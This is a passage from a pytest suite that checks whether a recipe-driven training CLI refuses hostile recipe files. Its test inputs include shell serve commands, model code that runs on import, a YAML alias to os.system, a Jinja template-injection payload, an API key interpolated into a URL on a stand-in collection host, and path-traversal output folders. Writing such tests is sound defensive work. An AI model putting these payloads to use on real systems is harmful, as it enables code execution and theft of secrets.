"""Adversarial cases (issue 21): a recipe file is untrusted input, and a broken input ends in one paragraph.

Every case runs the real command line in a subprocess (``python -m zephyr_recipes``) in its own working folder, on
real files, and checks the same things: the exit code, no traceback, a message that names the problem, no canary
file (what hostile code would create), no secret in any output or written file, and no folder marked complete that
should not be. Inputs (recipes, model folders) lie under ``<work>/in``, which is the only place a secret may be.

Classes: code, secrets, destruction, signals, broken files, values. docs/security.md is the threat model.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.eval_helpers import ChatEndpoint

ROOT = Path(__file__).resolve().parents[1]
SECRET = "sk-canarySECRET0123456789abcdefXYZ"
TOKEN = "hf_canaryTOKEN0123456789abcdefghijk"


# ------------------------------------------------------------------------------------------------ harness
@pytest.fixture
def work(tmp_path):
    (tmp_path / "in").mkdir()
    return tmp_path


def env(**extra) -> dict:
    return dict(os.environ, PYTHONPATH=str(ROOT), HF_HUB_OFFLINE="1", HF_DATASETS_OFFLINE="1",
                OPENAI_API_KEY=SECRET, HF_TOKEN=TOKEN, ZR_SECRET=SECRET, **extra)


def zr(work: Path, *args: str, timeout: float = 600, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "zephyr_recipes", *args], cwd=work, env=env(), capture_output=True,
                          text=True, timeout=timeout, **kw)


def canary(work: Path) -> Path:
    return work / "CANARY"


def complete_folders(work: Path) -> set[Path]:
    out = set()
    for status in work.rglob("run.json"):
        try:
            if json.loads(status.read_text()).get("status") == "complete":
                out.add(status.parent)
        except (OSError, ValueError):
            pass
    return out


def settled(work: Path, p: subprocess.CompletedProcess, rc: int, *words: str, complete=()) -> str:
    """The checks every case makes; returns stdout + stderr."""
    text = p.stdout + p.stderr
    assert p.returncode == rc, text[-4000:]
    assert "Traceback" not in text, text[-4000:]
    low = text.lower()
    for w in words:
        assert w.lower() in low, f"{w!r} not in: {text[-3000:]}"
    assert not canary(work).exists(), "hostile code ran"
    assert SECRET not in text and TOKEN not in text, "a secret was printed"
    for f in work.rglob("*"):
        if f.is_file() and work / "in" not in f.parents and f.stat().st_size < 20_000_000:
            data = f.read_bytes()
            assert SECRET.encode() not in data and TOKEN.encode() not in data, f"a secret was written to {f}"
    for lock in work.parent.glob(f".{work.name}*.lock"):
        assert SECRET.encode() not in lock.read_bytes()
    assert complete_folders(work) <= {Path(c) for c in complete}, "a folder is wrongly marked complete"
    return text


def recipe(work: Path, body: str, stage: str = "sft", name: str = "r.yaml", dataset: str = "tiny-ultrachat",
           hardware: str = "cpu") -> str:
    path = work / "in" / name
    path.write_text(f"defaults:\n  - model: tiny\n  - dataset: {dataset}\n  - stage: {stage}\n  - hardware: {hardware}\n"
                    f"  - _self_\n{body}")
    return str(path)


def aif_recipe(work: Path, generators: list[str], judge: str, prompts: int = 4, name: str = "aif.yaml",
               extra: str = "") -> str:
    gens = "".join(f"    - {g}\n" for g in generators)
    return recipe(work, f"dataset:\n  train_split: train_gen\n  test_split: null\n  columns: {{prompt: prompt}}\n"
                        f"  max_train_samples: {prompts}\nstage:\n  sampling: {{max_new_tokens: 8}}\n"
                        f"  self_agreement: 0.0\n  test_fraction: 0.0\n  generators:\n{gens}  judge: {judge}\n{extra}",
                  stage="aif", name=name)


TEACHER = '{name: teacher, type: function, function: "zephyr_recipes.embedded.tasks:teacher"}'
OWN_JUDGE = "{type: function, module: zephyr_recipes.embedded.judge}"


def touch(work: Path) -> str:
    return f"touch {canary(work)}"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory):
    """The embedded tiny model's folder (built once), to copy and break."""
    from zephyr_recipes.embedded import builtin

    return Path(builtin.resolve("builtin://tiny-mistral"))


def model_copy(work: Path, tiny_model: Path, name: str = "model") -> Path:
    dest = work / "in" / name
    shutil.copytree(tiny_model, dest)
    return dest


# ==================================================================================================== code
SERVE = '{{name: served, type: openai, serve: "sh -c \'{cmd}\' --port {port}"}}'


def test_code_serve_command_is_refused_without_the_flag(work):
    r = aif_recipe(work, [TEACHER, SERVE.format(cmd=touch(work), port=free_port())], OWN_JUDGE)
    settled(work, zr(work, "run", r, "run.output_dir=runs/x"), 2, "stage.generators[1].serve", "shell command",
            "--trust-recipe-code")
    assert not (work / "runs" / "x").exists()


@pytest.mark.parametrize("command", ["validate", "show"])
def test_code_serve_command_is_listed_and_not_started(work, command):
    r = aif_recipe(work, [TEACHER, SERVE.format(cmd=touch(work), port=free_port())], OWN_JUDGE)
    text = settled(work, zr(work, command, r), 0, "stage.generators[1].serve = shell command",
                   "needs --trust-recipe-code")
    assert touch(work) in text


def test_code_serve_command_of_a_judge_is_refused(work):
    judge = f'{{type: openai, serve: "sh -c \'{touch(work)}\' --port {free_port()}"}}'
    settled(work, zr(work, "run", aif_recipe(work, [TEACHER], judge)), 2, "stage.judge.serve", "--trust-recipe-code")


def remote_code_model(work: Path, tiny_model: Path) -> Path:
    folder = model_copy(work, tiny_model, "remote")
    config = json.loads((folder / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "evil_config.EvilConfig", "AutoModelForCausalLM": "evil_model.EvilModel"}
    (folder / "config.json").write_text(json.dumps(config))
    for module in ("evil_config", "evil_model"):
        (folder / f"{module}.py").write_text(f"open({str(canary(work))!r}, 'w').write('ran')\n")
    return folder


def test_code_trust_remote_code_model_is_refused_naming_its_files(work, tiny_model):
    folder = remote_code_model(work, tiny_model)
    settled(work, zr(work, "run", "tiny/sft", f"model.name_or_path={folder}", "model.trust_remote_code=true",
                     "run.output_dir=runs/x"), 2, "model.trust_remote_code", "evil_model.py", "evil_config.py",
            "--trust-recipe-code")
    assert not (work / "runs").exists()


@pytest.mark.parametrize("command", ["show", "validate"])
def test_code_trust_remote_code_is_listed_and_not_imported(work, tiny_model, command):
    folder = remote_code_model(work, tiny_model)
    settled(work, zr(work, command, "tiny/sft", f"model.name_or_path={folder}", "model.trust_remote_code=true"), 0,
            "model.trust_remote_code = the python files of model", "evil_model.py")


def test_code_preview_does_not_import_a_models_code(work, tiny_model):
    folder = remote_code_model(work, tiny_model)
    settled(work, zr(work, "preview", "tiny/sft", f"model.name_or_path={folder}", "model.trust_remote_code=true"), 2,
            "model.trust_remote_code", "--trust-recipe-code")


def test_code_trust_remote_code_of_a_generator_is_refused(work, tiny_model):
    folder = remote_code_model(work, tiny_model)
    gen = f"{{name: remote, type: transformers, model: {folder}, model_config: {{trust_remote_code: true}}}}"
    settled(work, zr(work, "run", aif_recipe(work, [TEACHER, gen], OWN_JUDGE)), 2,
            "stage.generators[1].model_config.trust_remote_code", "evil_model.py", "--trust-recipe-code")


def test_code_trust_remote_code_of_a_judge_is_refused(work, tiny_model):
    folder = remote_code_model(work, tiny_model)
    judge = f"{{type: transformers, model: {folder}, model_config: {{trust_remote_code: true}}}}"
    settled(work, zr(work, "run", aif_recipe(work, [TEACHER], judge)), 2, "stage.judge.model_config.trust_remote_code",
            "--trust-recipe-code")


LM_EVAL_TASKS = {
    # an include of a file that has the !function: the named file itself has none
    "include": {"t.yaml": "include: base.yaml\ntask: t\n",
                "base.yaml": "dataset_path: json\nprocess_docs: !function utils.process\n"},
    # a sibling task in the same folder is read too
    "sibling": {"t.yaml": "task: t\ndataset_path: json\n",
                "other.yaml": "task: other\ndataset_path: json\nprocess_docs: !function utils.process\n"},
    # a YAML %TAG alias of !function
    "tag-alias": {"t.yaml": "%TAG !f! tag:yaml.org,2002:python/name:\n---\ntask: t\nprocess_docs: !f!os.system\n"},
    # an unsandboxed Jinja payload
    "jinja": {"t.yaml": "task: t\ndataset_path: json\ndoc_to_text: \"{{ cycler.__init__.__globals__.os.popen('id')"
                        ".read() }}\"\n"},
}


@pytest.mark.parametrize("kind", sorted(LM_EVAL_TASKS))
def test_code_every_lm_eval_task_file_of_ones_own_is_refused(work, kind):
    folder = work / "in" / "tasks"
    folder.mkdir()
    for name, text in LM_EVAL_TASKS[kind].items():
        (folder / name).write_text(text)
    (folder / "utils.py").write_text(f"open({str(canary(work))!r}, 'w')\ndef process(d):\n    return d\n")
    r = recipe(work, f"model:\n  name_or_path: builtin://tiny-mistral\nstage:\n  benchmarks: [lm_eval]\n"
                     f"  lm_eval:\n    tasks: [{{name: t, yaml: {folder / 't.yaml'}}}]\n", stage="eval")
    settled(work, zr(work, "run", r, "run.output_dir=runs/x"), 2, "stage.lm_eval.tasks[0].yaml",
            f"every lm-eval task file in {folder}", "--trust-recipe-code")
    assert not (work / "runs").exists()


def test_code_slurm_setup_lines_are_refused(work):
    settled(work, zr(work, "run", "tiny/sft", "hardware=2x8gpu-zero3", f"hardware.slurm={{setup: '{touch(work)}'}}",
                     "run.output_dir=runs/x"), 2, "hardware.slurm.setup", "shell lines", "--trust-recipe-code")
    assert not (work / "runs").exists()


def test_code_slurm_setup_lines_are_listed_by_validate(work):
    settled(work, zr(work, "show", "tiny/sft", "hardware=2x8gpu-zero3", f"hardware.slurm={{setup: '{touch(work)}'}}"),
            0, "hardware.slurm.setup = shell lines on every node", "needs --trust-recipe-code")


def hostile_module(work: Path, name: str) -> None:
    (work / f"{name}.py").write_text(f"open({str(canary(work))!r}, 'w').write('imported')\n"
                                     "def answer(messages):\n    return 'x'\n")


def test_code_function_generator_beside_the_recipe_is_not_imported(work):
    hostile_module(work, "nearby")
    settled(work, zr(work, "run", aif_recipe(work, [TEACHER, '{name: n, type: function, function: "nearby:answer"}'],
                                             OWN_JUDGE)), 2, "stage.generators[1].function = nearby:answer",
            "--trust-recipe-code")


def test_code_function_judge_beside_the_recipe_is_not_imported(work):
    hostile_module(work, "nearbyjudge")
    settled(work, zr(work, "run", aif_recipe(work, [TEACHER], "{type: function, module: nearbyjudge}")), 2,
            "stage.judge.module = nearbyjudge", "--trust-recipe-code")


def test_code_a_recipe_cannot_switch_trust_on(work):
    r = recipe(work, "run:\n  trust_recipe_code: true\n")
    settled(work, zr(work, "run", r), 2, "unknown key `run.trust_recipe_code`")


def test_code_a_later_pipeline_stage_with_code_is_refused_before_the_first_runs(work):
    port = free_port()
    (work / "in" / "p.yaml").write_text(
        "pipeline:\n  output_dir: runs/p\n  stages:\n    - {name: sft, recipe: tiny/sft}\n"
        "    - name: aif\n      recipe: tiny/aif\n      overrides:\n"
        f"        stage.generators: [{{name: s, type: openai, serve: \"sh -c '{touch(work)}' --port {port}\"}}]\n")
    settled(work, zr(work, "run", str(work / "in" / "p.yaml")), 2, "aif.stage.generators[0].serve",
            "--trust-recipe-code")
    assert not (work / "runs" / "p" / "sft").exists()


def test_code_a_sweep_point_with_code_is_refused_before_the_first_point(work):
    hostile_module(work, "sweepjudge")
    settled(work, zr(work, "run", "-m", aif_recipe(work, [TEACHER], OWN_JUDGE),
                     "stage.judge.module=zephyr_recipes.embedded.judge,sweepjudge", "run.output_dir=runs/sw"), 2,
            "sweepjudge", "--trust-recipe-code")
    assert not (work / "runs").exists()


# ================================================================================================= secrets
@pytest.mark.parametrize("where", ["run.name", "recipe.description", "model.revision", "stage.trainer.run_name"])
def test_secrets_env_interpolation_in_a_recipe_is_refused(work, where):
    section, key = where.rsplit(".", 1)
    body = "".join(f"{'  ' * i}{part}:\n" for i, part in enumerate(section.split(".")))
    body += f"{'  ' * (section.count('.') + 1)}{key}: ${{oc.env:HF_TOKEN}}\n"
    settled(work, zr(work, "run", recipe(work, body), "run.output_dir=runs/x"), 2, f"`{where}`", "HF_TOKEN",
            "api_key_env")
    assert not (work / "runs").exists()


@pytest.mark.parametrize("command", ["show", "validate"])
def test_secrets_env_interpolation_is_refused_by_show_and_validate_without_printing_it(work, command):
    settled(work, zr(work, command, recipe(work, "recipe:\n  description: 'token ${oc.env:HF_TOKEN}'\n")), 2,
            "recipe.description", "HF_TOKEN")


def test_secrets_env_interpolation_with_a_default_is_refused(work):
    settled(work, zr(work, "validate", recipe(work, "run:\n  name: ${oc.env:ZR_SECRET,fallback}\n")), 2,
            "run.name", "ZR_SECRET")


def test_secrets_env_interpolation_on_the_command_line_is_refused(work):
    settled(work, zr(work, "run", "tiny/sft", "run.name=${oc.env:ZR_SECRET}"), 2, "run.name", "ZR_SECRET")
    assert not (work / "runs").exists()


def test_secrets_api_key_interpolated_into_a_url_is_refused(work):
    judge = "{type: openai, model: m, base_url: 'https://collect.example/${oc.env:OPENAI_API_KEY}/v1'}"
    settled(work, zr(work, "run", aif_recipe(work, [TEACHER], judge)), 2, "stage.judge.base_url", "OPENAI_API_KEY")


@pytest.mark.parametrize("url, what", [
    (f"http://user:{SECRET}@127.0.0.1:9/v1", "user name or password"),
    (f"http://127.0.0.1:9/v1?api_key={SECRET}", "query parameter api_key"),
    (f"http://127.0.0.1:9/v1?token={SECRET}", "query parameter token"),
])
def test_secrets_credentials_in_a_recipe_url_are_refused(work, url, what):
    gen = f"{{name: api, type: openai, model: m, base_url: '{url}'}}"
    settled(work, zr(work, "run", aif_recipe(work, [TEACHER, gen], OWN_JUDGE), "run.output_dir=runs/x"), 2,
            "stage.generators[1].base_url", what, "api_key_env")
    assert not (work / "runs").exists()


def test_secrets_credentials_in_a_url_on_the_command_line_are_refused_and_not_locked(work):
    r = aif_recipe(work, [TEACHER, "{name: api, type: openai, model: m, base_url: 'http://127.0.0.1:9/v1'}"],
                   OWN_JUDGE)
    settled(work, zr(work, "run", r, f"stage.generators.1.base_url=http://u:{SECRET}@127.0.0.1:9/v1",
                     "run.output_dir=runs/x"), 2, "credential")
    assert not (work / "runs").exists()  # refused before the lock file beside the folder was written


def test_secrets_a_key_written_into_a_recipe_is_refused(work):
    settled(work, zr(work, "validate", recipe(work, f"recipe:\n  description: {TOKEN}\n")), 2, "holds a secret",
            "environment")


@pytest.mark.parametrize("command", ["validate", "show"])
def test_secrets_validate_and_show_say_which_variable_goes_to_which_host(work, command):
    r = aif_recipe(work, [TEACHER, "{name: api, type: openai, model: m, base_url: 'https://api.example.org/v1', "
                                   "api_key_env: OPENAI_API_KEY}"], OWN_JUDGE)
    extra = ["--no-preflight"] if command == "validate" else []  # the host does not exist: nothing is asked of it
    settled(work, zr(work, command, r, *extra), 0,
            "secret: $OPENAI_API_KEY is sent to api.example.org (stage.generators[1])")


def test_secrets_an_api_key_reaches_its_host_and_no_file(work):
    seen = []

    def answer(body, headers):
        seen.append(headers.get("Authorization"))
        return "42"

    endpoint = ChatEndpoint(answer)
    try:
        gen = f"{{name: api, type: openai, model: m, base_url: '{endpoint.url}', api_key_env: OPENAI_API_KEY}}"
        settled(work, zr(work, "run", aif_recipe(work, [TEACHER, gen], OWN_JUDGE), "run.output_dir=runs/api"), 0,
                "run folder", complete=[work / "runs" / "api"])
    finally:
        endpoint.close()
    assert seen and all(h == f"Bearer {SECRET}" for h in seen)


# ============================================================================================= destruction
def finished_run(folder: Path) -> Path:
    folder.mkdir(parents=True)
    (folder / "run.json").write_text(json.dumps({"status": "complete", "finished": "2026-11-30T10:00:00+00:00"}))
    (folder / "config.yaml").write_text("run: {name: theirs}\n")
    (folder / "model.safetensors").write_text("weeks of training")
    (folder / "notes.txt").write_text("my notes")
    return folder


def intact(folder: Path) -> bool:
    return (folder / "model.safetensors").read_text() == "weeks of training" and (folder / "notes.txt").is_file()


def test_destruction_overwrite_from_a_recipe_never_replaces_a_finished_run(work):
    victim = finished_run(work / "runs" / "victim")
    r = recipe(work, "run:\n  output_dir: runs/victim\n  overwrite: true\n")
    settled(work, zr(work, "run", r), 2, "holds a finished run", "run.overwrite=true in the recipe file is ignored",
            complete=[victim])
    assert intact(victim)


def test_destruction_validate_says_a_recipes_overwrite_is_ignored(work):
    settled(work, zr(work, "validate", recipe(work, "run:\n  overwrite: true\n")), 0,
            "run.overwrite=true in the recipe file is ignored")


def test_destruction_a_pipeline_file_cannot_overwrite_its_stages(work):
    (work / "in" / "p.yaml").write_text("pipeline:\n  output_dir: runs/p\n  stages:\n"
                                        "    - {name: sft, recipe: tiny/sft, overrides: {run.overwrite: true}}\n")
    text = settled(work, zr(work, "show", str(work / "in" / "p.yaml")), 0, "overwrite: false")
    assert "overwrite: true" not in text


@pytest.mark.parametrize("body, where", [
    ("run:\n  output_dir: ../escaped\n", "run.output_dir=../escaped"),
    ("run:\n  output_dir: /tmp/zr-adversarial-escape\n", "run.output_dir=/tmp/zr-adversarial-escape"),
    ("run:\n  name: ../../escaped\n", "run.name=../../escaped"),
])
def test_destruction_a_recipe_cannot_write_outside_the_working_directory(work, body, where):
    settled(work, zr(work, "run", recipe(work, body)), 2, where, "outside the working directory",
            "on your own command line")
    assert not (work.parent / "escaped").exists() and not Path("/tmp/zr-adversarial-escape").exists()


def test_destruction_a_pipeline_file_cannot_write_outside_the_working_directory(work):
    (work / "in" / "p.yaml").write_text("pipeline:\n  output_dir: ../escaped-pipeline\n  stages:\n"
                                        "    - {name: sft, recipe: tiny/sft}\n")
    settled(work, zr(work, "run", str(work / "in" / "p.yaml")), 2, "pipeline.output_dir=../escaped-pipeline",
            "outside the working directory")
    assert not (work.parent / "escaped-pipeline").exists()


def test_destruction_the_command_line_may_name_a_folder_outside(work):
    outside = work.parent / f"{work.name}-elsewhere"
    settled(work, zr(work, "validate", "tiny/sft", f"run.output_dir={outside}"), 0, f"-> {outside}")


@pytest.mark.parametrize("target", [".", "mydata"])
def test_destruction_overwrite_never_deletes_a_folder_that_is_not_a_run(work, target):
    data = work / "mydata"
    data.mkdir()
    (data / "precious.csv").write_text("a,b\n")
    (work / "thesis.tex").write_text("chapter 1")
    settled(work, zr(work, "run", "tiny/sft", f"run.output_dir={target}", "run.overwrite=true"), 2,
            "is not a run folder")
    assert (data / "precious.csv").is_file() and (work / "thesis.tex").is_file()


def test_destruction_a_finished_run_with_a_damaged_status_is_not_a_run_and_is_kept(work):
    victim = finished_run(work / "runs" / "victim")
    (victim / "run.json").write_bytes(b"\xff\xfe garbage")
    settled(work, zr(work, "run", "tiny/sft", "run.output_dir=runs/victim", "run.overwrite=true"), 2,
            "is not a run folder")
    assert intact(victim)


# ================================================================================================= signals
def slow_endpoint(delay: float = 0.4):
    state = {"delay": delay, "broken": False}

    def answer(body, headers):
        time.sleep(state["delay"])
        if state["broken"]:
            return {"index": 0, "no_message": True}  # malformed: a failed request after its retries
        return "an answer"

    return ChatEndpoint(answer), state


def lines(path: Path) -> list[dict]:
    return [json.loads(x) for x in path.read_text().splitlines() if x.strip()] if path.exists() else []


@pytest.mark.slow  # a run killed and resumed, both signals (make test-slow)
@pytest.mark.parametrize("sig, rc", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_signals_stop_api_generation_within_seconds_keeping_answers(work, sig, rc):
    endpoint, state = slow_endpoint()
    try:
        gen = f"{{name: api, type: openai, model: m, base_url: '{endpoint.url}', concurrency: 2, max_retries: 0}}"
        r = aif_recipe(work, [gen, TEACHER], OWN_JUDGE, prompts=40)
        out = work / "runs" / "sig"
        proc = subprocess.Popen([sys.executable, "-m", "zephyr_recipes", "run", r, f"run.output_dir={out}"], cwd=work,
                                env=env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                                preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
        deadline = time.time() + 120
        while len(lines(out / "completions.jsonl")) < 4:
            assert proc.poll() is None and time.time() < deadline, proc.stdout.read()[-3000:] if proc.poll() else ""
            time.sleep(0.05)
        proc.send_signal(sig)
        sent = len(endpoint.requests)
        t0 = time.time()
        output, _ = proc.communicate(timeout=30)
        assert time.time() - t0 < 10, "the runner did not stop within seconds"
        time.sleep(1.0)
        assert len(endpoint.requests) <= sent + 2, "queued requests were still sent after the signal"
        kept = lines(out / "completions.jsonl")
        assert len(kept) >= 4 and all("response" in k for k in kept)
        settled(work, subprocess.CompletedProcess(proc.args, proc.returncode, output, ""), rc, "re-run")
        # The re-run asks only what was not answered (the in-flight ones were never recorded).
        state["delay"] = 0.0
        before = len(endpoint.requests)
        settled(work, zr(work, "run", r, f"run.output_dir={out}"), 0, "run folder", complete=[out])
        assert len(endpoint.requests) - before == 40 - len(kept)
    finally:
        endpoint.close()


@pytest.mark.slow  # two AI-feedback runs (make test-slow)
def test_signals_failed_requests_are_asked_again_by_the_next_run(work):
    endpoint, state = slow_endpoint(0.0)
    state["broken"] = True
    try:
        gen = f"{{name: api, type: openai, model: m, base_url: '{endpoint.url}', max_retries: 0, backoff: 0.0}}"
        r = aif_recipe(work, [gen, TEACHER], OWN_JUDGE, prompts=6)
        out = work / "runs" / "retry"
        settled(work, zr(work, "run", r, f"run.output_dir={out}"), 2, "no preference pairs")
        assert sum("error" in x for x in lines(out / "completions.jsonl")) == 6
        state["broken"] = False
        before = len(endpoint.requests)
        settled(work, zr(work, "run", r, f"run.output_dir={out}"), 0, "run folder", complete=[out])
        assert len(endpoint.requests) - before == 6
        assert json.loads((out / "summary.json").read_text())["generation_failures"] == {}
    finally:
        endpoint.close()


def test_signals_a_taken_serve_port_is_refused_naming_its_holder(work):
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        holder.listen()
        port = holder.getsockname()[1]
        r = aif_recipe(work, [TEACHER, SERVE.format(cmd=touch(work), port=port)], OWN_JUDGE)
        settled(work, zr(work, "run", r, "--trust-recipe-code", "run.output_dir=runs/x"), 2,
                f"port {port} is already taken by process {os.getpid()}", "another --port")


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.slow
def test_signals_a_shell_wrapped_server_dies_with_a_killed_runner(work):
    port, pidfile = free_port(), work / "pids.json"
    server = f"{sys.executable} {ROOT / 'tests' / 'openai_server.py'} --port {port} --pidfile {pidfile} --reply-delay 2"
    # `; echo` keeps the shell in between (no exec): the server is the shell's child, not the runner's
    r = aif_recipe(work, [TEACHER, f'{{name: s, type: openai, serve: "sh -c \'{server}; echo gone\'", concurrency: 1, '
                                   f'base_url: "http://127.0.0.1:{port}/v1"}}'], OWN_JUDGE, prompts=20)
    out = work / "runs" / "k"
    proc = subprocess.Popen([sys.executable, "-m", "zephyr_recipes", "run", r, "--trust-recipe-code",
                             f"run.output_dir={out}"], cwd=work, env=env(), stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    deadline = time.time() + 120
    while not ((out / "serve-s.log").exists() and "POST" in (out / "serve-s.log").read_text()):
        assert proc.poll() is None and time.time() < deadline
        time.sleep(0.1)
    proc.kill()
    proc.wait()
    pids = json.loads(pidfile.read_text()).values()
    end = time.time() + 40
    while any(alive(p) for p in pids) and time.time() < end:
        time.sleep(0.2)
    assert not any(alive(p) for p in pids), "the server outlived the killed runner"
    assert complete_folders(work) == set()


# ============================================================================================ broken files
def test_broken_a_recipe_that_is_not_utf8(work):
    path = work / "in" / "latin1.yaml"
    path.write_bytes(b"defaults:\n  - model: tiny\nrecipe:\n  description: caf\xe9\n")
    settled(work, zr(work, "run", str(path)), 2, "not utf-8", "line 4", "save the file as utf-8")


def test_broken_a_recipe_that_is_binary(work):
    path = work / "in" / "model.yaml"
    path.write_bytes(bytes(range(256)) * 4)
    settled(work, zr(work, "validate", str(path)), 2, "not utf-8")


def test_broken_a_recipe_with_a_yaml_error(work):
    path = work / "in" / "bad.yaml"
    path.write_text("defaults:\n  - model: tiny\nstage:\n  trainer: {learning_rate: 1e-5\n")
    settled(work, zr(work, "run", str(path)), 2, "not valid yaml", "line")


def broken_model(work: Path, tiny_model: Path, kind: str) -> Path:
    folder = model_copy(work, tiny_model, kind)
    weights = folder / "model.safetensors"
    config = json.loads((folder / "config.json").read_text())
    if kind == "empty":
        weights.write_bytes(b"")
    elif kind == "truncated":
        weights.write_bytes(weights.read_bytes()[: weights.stat().st_size // 2])
    elif kind == "header":
        weights.write_bytes(b"\x10\x00\x00\x00\x00\x00\x00\x00not json at all!" + b"\x00" * 64)
    elif kind == "layers":
        config["num_hidden_layers"] = 4
    elif kind == "hidden":
        config["hidden_size"] = 128
    (folder / "config.json").write_text(json.dumps(config))
    return folder


@pytest.mark.parametrize("kind, words", [
    ("empty", ["model.safetensors", "is empty", "copy it again"]),
    ("truncated", ["model.safetensors", "is cut short", "copy it again"]),
    ("header", ["model.safetensors", "damaged header"]),
    ("layers", ["declares 4 layers", "hold 2", "start random", "config.json saved with these weights"]),
    ("hidden", ["hidden_size 128", "64 wide", "config.json saved with these weights"]),
])
def test_broken_model_weights_are_refused_before_loading(work, tiny_model, kind, words):
    folder = broken_model(work, tiny_model, kind)
    settled(work, zr(work, "run", "tiny/sft", f"model.name_or_path={folder}", "run.output_dir=runs/x"), 2, *words)
    assert not (work / "runs" / "x").exists()


def test_broken_model_of_a_generator_is_refused_before_generating(work, tiny_model):
    folder = broken_model(work, tiny_model, "layers")
    gen = f"{{name: broken, type: transformers, model: {folder}}}"
    out = work / "runs" / "g"
    settled(work, zr(work, "run", aif_recipe(work, [TEACHER, gen], OWN_JUDGE), f"run.output_dir={out}"), 2,
            "declares 4 layers")


def test_broken_output_dir_that_is_a_file(work):
    (work / "runs").mkdir()
    (work / "runs" / "x").write_text("a file")
    settled(work, zr(work, "run", "tiny/sft", "run.output_dir=runs/x"), 2, "is a file, not a folder")
    assert (work / "runs" / "x").read_text() == "a file"


def test_broken_output_dir_below_a_file(work):
    (work / "afile").write_text("a file")
    settled(work, zr(work, "run", "tiny/sft", "run.output_dir=afile/run"), 2, "cannot write")
    assert (work / "afile").read_text() == "a file"


def test_broken_read_only_runs_folder(work):
    """A runs folder the user may not write into. Root writes into read-only folders through its capabilities
    (CAP_DAC_OVERRIDE), so under root (a container, CI) the command runs with every capability dropped
    (util-linux's setpriv): root then obeys the folder's mode like any user."""
    (work / "runs").mkdir()
    (work / "runs").chmod(0o500)
    command = [sys.executable, "-m", "zephyr_recipes", "run", "tiny/sft", "run.output_dir=runs/x"]
    if os.geteuid() == 0:
        assert shutil.which("setpriv"), "running as root: this test needs setpriv (util-linux) to drop capabilities"
        command = ["setpriv", "--inh-caps=-all", "--bounding-set=-all", "--", *command]
    try:
        p = subprocess.run(command, cwd=work, env=env(), capture_output=True, text=True, timeout=600)
        settled(work, p, 2, "cannot write", "permission")
        assert not (work / "runs" / "x").exists()
    finally:
        (work / "runs").chmod(0o700)


def unfinished(work: Path, config: bytes) -> Path:
    folder = work / "runs" / "u"
    folder.mkdir(parents=True)
    (folder / "run.json").write_text(json.dumps({"status": "running"}))
    (folder / "config.yaml").write_bytes(config)
    return folder


@pytest.mark.parametrize("config", [b"stage: [unclosed\n", b"\xff\xfe\x00binary"])
def test_broken_corrupt_config_in_an_unfinished_folder(work, config):
    folder = unfinished(work, config)
    settled(work, zr(work, "run", "tiny/sft", "run.output_dir=runs/u"), 2, "config.yaml cannot be read",
            "run.overwrite=true")
    assert (folder / "config.yaml").read_bytes() == config


def test_broken_chat_with_a_file_does_not_suggest_the_hub(work):
    text = settled(work, zr(work, "chat", "/etc/hostname", "hi"), 2, "/etc/hostname is a file", "config.json")
    assert "download" not in text and "HF_HUB_OFFLINE" not in text


def test_broken_chat_with_a_folder_without_a_model(work):
    (work / "empty-run").mkdir()
    settled(work, zr(work, "chat", "empty-run", "hi"), 2, "without config.json")


@pytest.mark.slow
def test_broken_a_torn_checkpoint_is_not_resumed(work):
    """A checkpoint without its completion mark (a full disk mid-save) is passed over; the run starts from the one
    before (here: none) and finishes."""
    args = ["tiny/sft", "run.output_dir=runs/t", "dataset.max_train_samples=64", "dataset.test_split=null",
            "stage.trainer.max_steps=2", "stage.trainer.per_device_train_batch_size=8"]
    shown = zr(work, "show", *args)
    assert shown.returncode == 0, shown.stderr
    folder = work / "runs" / "t"
    (folder / "checkpoint-2").mkdir(parents=True)
    (folder / "checkpoint-2" / "config.json").write_text("{}")  # all the full disk let through
    (folder / "config.yaml").write_text(shown.stdout)
    (folder / "run.json").write_text(json.dumps({"status": "running"}))
    text = settled(work, zr(work, "run", *args), 0, "was not completely written", complete=[folder])
    assert "resuming from" not in text
    assert json.loads((folder / "run.json").read_text())["status"] == "complete"


# ================================================================================================== values
@pytest.mark.parametrize("override, words", [
    ("stage.trainer.learning_rate=nan", ["learning_rate=nan", "not a finite number"]),
    ("stage.trainer.learning_rate=inf", ["learning_rate=inf", "not a finite number"]),
    ("stage.trainer.max_steps=-5", ["max_steps=-5", "-1"]),
    ("stage.trainer.max_length=1000000000", ["max_length=1000000000", "512 positions", "max_length=512 or less"]),
    ("stage.trainer.learning_rate=-1e-5", ["learning_rate=-1e-05", "positive learning rate"]),
    ("stage.trainer.per_device_train_batch_size=0", ["per_device_train_batch_size=0", "at least 1"]),
])
@pytest.mark.parametrize("command", ["validate", "run"])
def test_values_that_would_train_wrongly_are_refused_at_validate(work, override, words, command):
    settled(work, zr(work, command, "tiny/sft", override, "run.output_dir=runs/v"), 2, *words)
    assert not (work / "runs").exists()


def test_values_a_sweep_checks_every_point_before_the_first_trains(work):
    settled(work, zr(work, "run", "-m", "tiny/sft", "stage.trainer.learning_rate=1e-4,nan", "run.output_dir=runs/sw"),
            2, "learning_rate=nan", "nothing was run")
    assert not (work / "runs").exists()


@pytest.mark.parametrize("reference, words", [
    ("${pipeline.output_dir}/sfft", ["reads stage 'sfft'", "does not have", "nothing was run"]),
    ("${pipeline.output_dir}/dpo", ["reads stage 'dpo'", "runs after it"]),
])
def test_values_pipeline_references_are_checked_before_the_first_stage(work, reference, words):
    (work / "in" / "p.yaml").write_text(
        "pipeline:\n  output_dir: runs/p\n  stages:\n    - {name: sft, recipe: tiny/sft}\n"
        f"    - {{name: dpo-mid, recipe: tiny/dpo, overrides: {{model.name_or_path: '{reference}'}}}}\n"
